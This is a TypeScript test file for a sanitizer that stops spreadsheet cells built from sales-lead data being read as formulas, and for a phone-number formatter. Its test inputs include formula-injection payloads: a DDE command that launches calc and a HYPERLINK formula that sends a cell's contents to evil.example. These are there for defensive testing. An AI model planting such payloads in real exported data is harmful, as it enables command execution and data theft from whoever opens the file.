import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { looksLikeFormula, spreadsheetPhone, spreadsheetText } from './safe-text.ts';

describe('FORM-11 a spreadsheet reads no part of a lead as a formula', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '﹦1',
    '−1',
    '\t=1',
    '\tharmless',
    '\r=1',
    '\n=1',
    '  =1',
    '\u00A0=1',
    '\u200B=1',
    '\uFEFF=1',
    '\u202E=1',
    '\u0000=1',
    '\u2800=1',
  ])('%j', (text) => expect(spreadsheetText(text)).toBe(`'${text}`));

  it('whatever it begins with', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect(looksLikeFormula(spreadsheetText(text))).toBe(false);
      }),
    );
  });
});

it.each(['Ann', "O'Brien", 'a=b', 'HiLux 4-door', '2021 Toyota', '', '4006', 'C-HR'])(
  'FORM-11 %j is unchanged',
  (text) => expect(spreadsheetText(text)).toBe(text),
);

it('FORM-11 numbers keep their zeros and digits', () => {
  expect(spreadsheetText('0800')).toBe("'0800");
  expect(spreadsheetText('1234567890123456')).toBe("'1234567890123456");
  expect(spreadsheetText('12E5')).toBe("'12E5");
});

it('FORM-11 a phone number remains dialable', () => {
  expect(spreadsheetPhone('0412345678')).toBe('04 1234 5678');
  expect(spreadsheetPhone('1300123456')).toBe('1300123456');
  expect(spreadsheetPhone('131450')).toBe('131450');
  expect(spreadsheetPhone('+61 412')).toBe("'+61 412");
});
